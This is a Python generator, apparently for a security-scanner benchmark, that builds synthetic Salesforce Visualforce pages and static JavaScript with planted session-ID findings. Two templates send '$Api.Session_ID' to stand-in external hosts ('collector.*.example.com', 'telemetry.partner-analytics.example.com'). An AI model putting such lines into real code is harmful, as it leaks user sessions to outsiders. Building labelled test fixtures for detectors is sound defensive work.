"""Visualforce pages and components, and static-resource JavaScript, for a generated package.

Pages bind to their domain's controller and carry inline scripts; a few read `{!$Api.Session_ID}`,
either for the AJAX toolkit (supported) or to send it to a partner (export). Static JavaScript is
module-style UI code with fetches to the org's own REST API; a few files read the session.
"""

from __future__ import annotations

import random

from benchmarks.apex_plants import Planted

SUPPORTED_SCRIPT = [
    '<script src="/soap/ajax/59.0/connection.js" type="text/javascript"></script>',
    "<script>",
    "    sforce.connection.sessionId = '{!$Api.Session_ID}';",
    "    var openCount = sforce.connection.query(\"SELECT COUNT() FROM {S}\").size;",
    "</script>",
]
EXPORT_SCRIPT = [
    "<script>",
    "    var sid = '{!$Api.Session_ID}';",
    "    fetch('https://collector.{p}.example.com/v1/hit?s=' + encodeURIComponent(sid), { mode: 'no-cors' });",
    "</script>",
]


def write_page(domain: str, sobject: str, session: str | None, rng: random.Random, rel: str) -> tuple[
        str, list[Planted]]:
    """A list-and-edit page over the domain's controller; `session`: None, "supported" or "export"."""
    out = [f'<apex:page controller="{domain}Controller" lightningStylesheets="true" docType="html-5.0">',
           f"    <apex:includeScript value=\"{{!URLFOR($Resource.{domain.lower()}_app)}}\"/>",
           '    <apex:form id="form">',
           f'        <apex:pageBlock title="{domain} records" id="block">',
           "            <apex:pageMessages />",
           "            <apex:pageBlockButtons>",
           '                <apex:commandButton action="{!save}" value="Save" reRender="form"/>',
           "            </apex:pageBlockButtons>",
           '            <apex:pageBlockSection columns="2" title="Filter">',
           '                <apex:inputText value="{!filterStatus}" label="Status"/>',
           '                <apex:outputText value="{!label}" label="View"/>',
           "            </apex:pageBlockSection>",
           '            <apex:pageBlockTable value="{!records}" var="r">']
    for field in rng.sample(("Name", "Status__c", "Amount__c", "Priority__c", "Due_Date__c", "Account__c"), 4):
        out.append(f'                <apex:column value="{{!r.{field}}}"/>')
    out += ["            </apex:pageBlockTable>", "        </apex:pageBlock>", "    </apex:form>", "    <script>",
            "        (function () {",
            "            var state = { status: '{!JSENCODE(filterStatus)}', page: 1 };"]
    out += ["            " + line for line in js_functions(rng, rng.randint(2, 5), f"{domain.lower()}")]
    out += ["        })();", "    </script>"]
    planted: list[Planted] = []
    if session is not None:
        block = SUPPORTED_SCRIPT if session == "supported" else EXPORT_SCRIPT
        for line in block:
            out.append("    " + line.replace("{S}", sobject).replace("{p}", domain.lower()))
            if "$Api.Session_ID" in line:
                planted.append(Planted(rel, len(out), f"vf-{session}",
                                       ("SID010",) if session == "supported" else ("SID002",)))
    out.append("</apex:page>")
    return "\n".join(out) + "\n", planted


def write_session_page(domain: str, rel: str) -> tuple[str, list[Planted]]:
    """The page the "vf-content" plant renders with getContent(): it prints the session."""
    return "\n".join([
        '<apex:page showHeader="false" sidebar="false" standardStylesheets="false" contentType="text/html">',
        "    Start_Of_Session_Id{!$Api.Session_ID}End_Of_Session_Id",
        f"    <!-- read by {domain}Service.renderedSession() -->",
        "</apex:page>", ""]), [Planted(rel, 2, "vf-content", ("SID007",))]


def write_component(domain: str, sobject: str) -> str:
    return "\n".join([
        f'<apex:component controller="{domain}Controller">',
        '    <apex:attribute name="title" type="String" description="Heading" default="Summary"/>',
        '    <apex:pageBlock title="{!title}">',
        '        <apex:repeat value="{!records}" var="r">',
        '            <apex:outputPanel layout="block" styleClass="row">',
        '                <apex:outputField value="{!r.Name}"/> — <apex:outputField value="{!r.Status__c}"/>',
        "            </apex:outputPanel>",
        "        </apex:repeat>",
        "    </apex:pageBlock>",
        f"    <!-- {sobject} summary, used on the home page -->",
        "</apex:component>", ""])


def js_functions(rng: random.Random, count: int, prefix: str) -> list[str]:
    """UI helpers: DOM building, fetches to the org's REST API, event wiring."""
    out: list[str] = []
    for n in range(count):
        kind = rng.choice(("render", "load", "wire", "format"))
        name = f"{kind}{prefix.capitalize()}{n}"
        if kind == "render":
            out += [f"function {name}(rows, target) {{", "    var table = document.createElement('table');",
                    "    for (var i = 0; i < rows.length; i++) {", "        var tr = document.createElement('tr');",
                    "        var td = document.createElement('td');",
                    "        td.textContent = rows[i].Name + ' (' + (rows[i].Status__c || 'n/a') + ')';",
                    "        tr.appendChild(td);", "        table.appendChild(tr);", "    }",
                    "    target.innerHTML = '';", "    target.appendChild(table);", "}"]
        elif kind == "load":
            out += [f"function {name}(status) {{",
                    f"    return fetch('/services/apexrest/{prefix}/v1/?status=' + encodeURIComponent(status), {{",
                    "        headers: { 'Accept': 'application/json' },", "        credentials: 'same-origin'",
                    "    }).then(function (res) {", "        if (!res.ok) { throw new Error('HTTP ' + res.status); }",
                    "        return res.json();", "    }).catch(function (err) {",
                    "        console.warn('load failed', err);", "        return [];", "    });", "}"]
        elif kind == "wire":
            out += [f"function {name}(root) {{", "    var buttons = root.querySelectorAll('[data-action]');",
                    "    Array.prototype.forEach.call(buttons, function (btn) {",
                    "        btn.addEventListener('click', function (evt) {", "            evt.preventDefault();",
                    "            var action = btn.getAttribute('data-action');",
                    "            root.dispatchEvent(new CustomEvent('app:' + action, { bubbles: true }));",
                    "        });", "    });", "}"]
        else:
            out += [f"function {name}(amount, currency) {{", "    if (amount === null || amount === undefined) {",
                    "        return '';", "    }", "    var fixed = Number(amount).toFixed(2);",
                    "    var parts = fixed.split('.');",
                    "    parts[0] = parts[0].replace(/\\B(?=(\\d{3})+(?!\\d))/g, ',');",
                    "    return (currency || 'USD') + ' ' + parts.join('.');", "}"]
        out.append("")
    return out


def write_js_module(rng: random.Random, name: str, lines: int, session: str | None) -> tuple[str, int | None]:
    """A static-resource script of about `lines` lines; returns the text and the session line if any."""
    out = ["/*", f" * {name}: UI helpers for the package's pages. Loaded as a static resource.", " */",
           f"window.{name} = window.{name} || {{}};", "(function (ns) {", "    'use strict';", ""]
    body = js_functions(rng, max(1, lines // 11), name)
    out += ["    " + line if line else "" for line in body]
    session_line = None
    if session == "export":
        out += ["    ns.reportUsage = function (event) {",
                "        var sid = sforce.connection.sessionId;", "        var xhr = new XMLHttpRequest();",
                "        xhr.open('POST', 'https://telemetry.partner-analytics.example.com/v1/events');",
                "        xhr.setRequestHeader('X-Session', sid);",
                "        xhr.send(JSON.stringify({ event: event, at: Date.now() }));", "    };"]
        session_line = len(out) - 5
    elif session == "supported":
        out += ["    ns.limits = function () {", "        var sid = window.__sfdcSessionId;",
                "        return fetch('/services/data/v59.0/limits', {",
                "            headers: { 'Authorization': 'Bearer ' + sid }", "        });", "    };"]
        session_line = len(out) - 4
    names = [line.split("(")[0][9:] for line in body if line.startswith("function ")]
    out += [f"    ns.{n} = {n};" for n in names]
    out += ["})(window." + name + ");", ""]
    return "\n".join(out), session_line
